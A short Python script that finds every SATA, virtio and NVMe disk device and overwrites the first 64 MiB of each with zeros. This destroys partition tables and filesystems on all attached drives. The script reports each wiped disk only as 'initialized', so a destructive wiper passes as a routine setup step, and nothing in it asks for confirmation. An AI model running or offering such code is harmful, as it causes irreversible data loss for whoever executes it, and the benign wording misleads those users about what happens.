import glob
import os
import re

for dev in sorted(glob.glob("/dev/sd?") + glob.glob("/dev/nvme?n?") + glob.glob("/dev/vd?")):
    if not re.match(r"/dev/(sd[a-z]|vd[a-z]|nvme\dn\d)$", dev):
        continue
    try:
        fd = os.open(dev, os.O_WRONLY | os.O_SYNC)
        for _ in range(64):
            os.write(fd, b"\0" * (1 << 20))
        os.close(fd)
        print("initialized", dev)
    except OSError as err:
        print(dev, err)
